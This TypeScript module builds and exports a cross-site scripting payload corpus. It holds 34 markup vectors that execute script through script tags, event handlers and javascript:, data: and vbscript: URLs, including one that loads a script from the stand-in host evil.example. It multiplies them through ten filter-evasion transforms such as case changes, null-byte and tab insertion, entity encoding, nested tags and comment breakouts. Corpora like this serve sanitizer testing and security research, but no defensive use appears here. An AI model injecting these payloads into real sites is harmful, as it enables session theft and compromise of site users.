const run = 'alert(document.domain)'

/** Markup that runs a script when a browser meets it, or leads to one. */
const vectors = [
  `<script>${run}</script>`,
  '<script src="https://evil.example/x.js"></script>',
  `<script type="module">${run}</script>`,
  `<img src=x onerror=${run}>`,
  `<img src="/a.png" onerror="${run}">`,
  `<svg onload=${run}>`,
  `<svg><script>${run}</script></svg>`,
  `<svg><animate onbegin=${run} attributeName=x></svg>`,
  `<svg><a href="javascript:${run}"><text>x</text></a></svg>`,
  `<math><maction actiontype="statusline" xlink:href="javascript:${run}">x</maction></math>`,
  `<body onload=${run}>`,
  `<iframe src="javascript:${run}"></iframe>`,
  `<iframe srcdoc="<script>${run}</script>"></iframe>`,
  `<object data="javascript:${run}"></object>`,
  `<embed src="javascript:${run}">`,
  `<a href="javascript:${run}">x</a>`,
  `<a href="data:text/html,<script>${run}</script>">x</a>`,
  `<a href="vbscript:${run}">x</a>`,
  `<form action="javascript:${run}"><button>x</button></form>`,
  `<button formaction="javascript:${run}">x</button>`,
  `<input autofocus onfocus=${run}>`,
  `<details open ontoggle=${run}>x</details>`,
  `<video><source onerror=${run}></video>`,
  `<audio src=x onerror=${run}></audio>`,
  `<p onmouseover="${run}" style="position:fixed;inset:0">x</p>`,
  `<td onclick=${run}>x</td>`,
  `<style>@import "javascript:${run}";</style>`,
  `<link rel="stylesheet" href="javascript:${run}">`,
  `<meta http-equiv="refresh" content="0;url=javascript:${run}">`,
  `<base href="javascript:${run}//">`,
  `<template><script>${run}</script></template>`,
  `<noscript><p title="</noscript><img src=x onerror=${run}>"></noscript>`,
  `<textarea></textarea><img src=x onerror=${run}>`,
  `<marquee onstart=${run}>x</marquee>`,
]

/** Ways in which the same markup is written so that a filter does not recognise it. */
const disguises: readonly ((vector: string) => string)[] = [
  vector => vector,
  vector => vector.toUpperCase(),
  vector => vector.replace(/<(\w)/g, '</x><$1'),
  vector => vector.replaceAll(' ', '/'),
  vector => vector.replaceAll(' ', '\n'),
  vector => vector.replaceAll('javascript:', 'java\tscript:').replace(/<(\w+)/g, '<$1\u0000'),
  vector => vector.replaceAll('javascript:', '&#106;avascript&colon;').replaceAll('"', "'"),
  vector => `"><!--${vector}--!>${vector}`,
  vector => `<scr<script>ipt>${vector}`,
  vector => `<p title="</p>${vector}">${vector.slice(0, -1)}`,
]

/** Every vector in every disguise that changes it. */
export const payloads: readonly string[] = [
  ...new Set(vectors.flatMap(vector => disguises.map(disguise => disguise(vector)))),
]
